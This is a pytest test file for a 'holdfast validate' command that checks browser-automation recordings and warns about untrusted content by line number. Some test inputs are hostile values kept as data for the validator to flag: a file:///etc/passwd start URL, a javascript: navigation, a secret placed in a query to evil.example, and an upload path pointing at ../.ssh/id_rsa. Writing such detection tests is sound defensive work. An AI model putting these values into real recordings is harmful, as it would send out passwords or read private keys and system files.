"""holdfast validate: fine, or the line of what is wrong."""

import json
from pathlib import Path

import pytest

from holdfast.doors.cli import main

FINE = {
    "format": "holdfast-recording/1",
    "name": "shop",
    "startUrl": "https://example.org/",
    "createdAt": "2026-11-15T12:00:00+00:00",
    "steps": [{"id": "s1", "action": "navigate", "url": "", "value": "https://example.org/2"}],
}


def write(folder: Path, document: object) -> Path:
    path = folder / "shop.json"
    path.write_text(json.dumps(document, indent=2), encoding="utf-8")
    return path


def test_a_valid_recording_is_said_to_be_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, FINE)
    assert main(["validate", str(path)]) == 0
    assert capsys.readouterr().out == f"{path} is a valid recording\n"


def test_what_is_wrong_is_told_with_file_and_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, FINE | {"steps": [{"id": "s1", "action": "clack"}]})
    assert main(["validate", str(path)]) == 1
    printed = capsys.readouterr().out
    assert printed.startswith(f"{path}:9: steps[0].action must be one of click, dblclick,")


def test_programs_get_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write(tmp_path, FINE | {"name": 7})
    assert main(["validate", str(path), "--json"]) == 1
    (finding,) = json.loads(capsys.readouterr().out)
    assert finding == {
        "line": 3,
        "place": "name",
        "message": "must be of kind string, got 7",
        "warning": False,
    }


def test_a_file_that_is_not_there_is_another_exit_code(tmp_path: Path) -> None:
    assert main(["validate", str(tmp_path / "none.json")]) == 3


def told(capsys: pytest.CaptureFixture[str], path: Path, *options: str) -> list[str]:
    """Return what is told of a valid recording, without its name."""
    assert main(["validate", str(path), *options]) == 0
    lines = capsys.readouterr().out.splitlines()
    return [line.removeprefix(f"{path}:").strip() for line in lines[:-1]]


FILE = {"selectors": ["#file"]}


def a_step(**given: object) -> dict[str, object]:
    return {"id": "s1", "action": "press", "url": "https://example.org/in", **given}


@pytest.mark.parametrize(
    ("document", "warned"),
    [
        pytest.param(
            {"startUrl": "file:///etc/passwd"}, "4: warning: startUrl is no http", id="file"
        ),
        pytest.param(
            {"steps": [a_step(action="navigate", value="javascript:alert(1)")]},
            "11: warning: steps[0].value is no http",
            id="script",
        ),
        pytest.param(
            {"steps": [a_step(action="navigate", value="https://evil.example/?p=${PASSWORD}")]},
            "11: warning: steps[0].value sends a secret in an address",
            id="address",
        ),
        pytest.param(
            {"steps": [a_step(value="${PASSWORD}")]},
            "11: warning: steps[0].value uses the secret 'PASSWORD', undeclared: --fix",
            id="undeclared",
        ),
        pytest.param(
            {
                "steps": [a_step(value="${PASSWORD}")],
                "secrets": [{"name": "PASSWORD", "origin": "https://bank.example"}],
            },
            "11: warning: steps[0].value types the secret 'PASSWORD' of https://bank.example at",
            id="elsewhere",
        ),
        pytest.param(
            {
                "steps": [a_step(value="${HOME}")],
                "secrets": [{"name": "PASSWORD", "origin": "https://example.org"}],
            },
            "11: warning: steps[0].value uses the secret 'HOME', undeclared: it is never typed",
            id="one more",
        ),
        pytest.param(
            {"secrets": [{"name": "PASSWORD", "origin": "example.org"}]},
            "17: warning: secrets[0].origin is no origin",
            id="no origin",
        ),
        pytest.param(
            {"steps": [a_step(action="upload", values=["a.txt", "../.ssh/id_rsa"], pointer=FILE)]},
            "13: warning: steps[0].values[1] names a file outside",
            id="upload",
        ),
        pytest.param(
            {"steps": [a_step(pointer={"selectors": ["#note"]}, value="${HOME}")]},
            "16: warning: steps[0].value was imported and names a secret",
            id="imported",
        ),
        pytest.param(
            {"allowRiskySteps": True}, "14: warning: allowRiskySteps lets risky steps", id="risky"
        ),
    ],
)
def test_what_makes_a_recording_untrusted_is_warned_of_with_its_line(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    document: dict[str, object],
    warned: str,
) -> None:
    lines = told(capsys, write(tmp_path, FINE | document))
    assert [line for line in lines if line.startswith(warned)], lines


def test_an_ordinary_recording_is_warned_of_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    steps = [
        a_step(action="navigate", value="{{shop}}/login"),
        a_step(id="s2", value="${PASSWORD}"),
        a_step(id="s3", value="costs $${PRICE} or $5"),
        a_step(id="s4", action="upload", value="files/a.txt", pointer=FILE),
    ]
    secrets = [{"name": "PASSWORD", "origin": "https://example.org"}]
    assert told(capsys, write(tmp_path, FINE | {"steps": steps, "secrets": secrets})) == []


def test_fix_declares_what_edition_1_meant_and_nothing_else(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, FINE | {"steps": [a_step(value="${PASSWORD}")], "mine": [1]})
    assert told(capsys, path, "--fix") == ["declared its secrets"]
    fixed = json.loads(path.read_text(encoding="utf-8"))
    assert fixed["secrets"] == [{"name": "PASSWORD", "origin": "https://example.org"}]
    assert fixed["mine"] == [1]
    assert told(capsys, path, "--fix") == []


def test_fix_adds_nothing_to_what_is_declared(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secrets = [{"name": "PASSWORD", "origin": "https://example.org"}]
    path = write(tmp_path, FINE | {"steps": [a_step(value="${HOME}")], "secrets": secrets})
    before = path.read_bytes()
    assert "it is never typed" in told(capsys, path, "--fix")[0]
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    ("settings", "line"),
    [
        ({"mode": "reckless"}, "14: mode must be one of conservative"),
        ({"healingEnabled": "yes"}, "14: healingEnabled must be of kind boolean"),
        ({"allowRiskySteps": "yes"}, "14: allowRiskySteps must be of kind boolean"),
        (
            {"viewport": {"width": 1_000_000_000, "height": 720}},
            "viewport.width must not be above 20000",
        ),
        (
            {"customThresholds": {"autoApply": 5, "applyWithFlag": 60, "suggestOnly": 40}},
            "15: customThresholds.autoApply must not be below 60, got 5",
        ),
        ({"customThresholds": {"autoApply": 90}}, "14: customThresholds has no applyWithFlag"),
        (
            {"customThresholds": {"autoApply": 70, "applyWithFlag": 75, "suggestOnly": 40}},
            "14: customThresholds autoApply > applyWithFlag",
        ),
    ],
)
def test_settings_that_cannot_hold_are_wrong_and_named_with_their_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], settings: dict[str, object], line: str
) -> None:
    path = write(tmp_path, FINE | settings)
    assert main(["validate", str(path)]) == 1
    assert line in capsys.readouterr().out
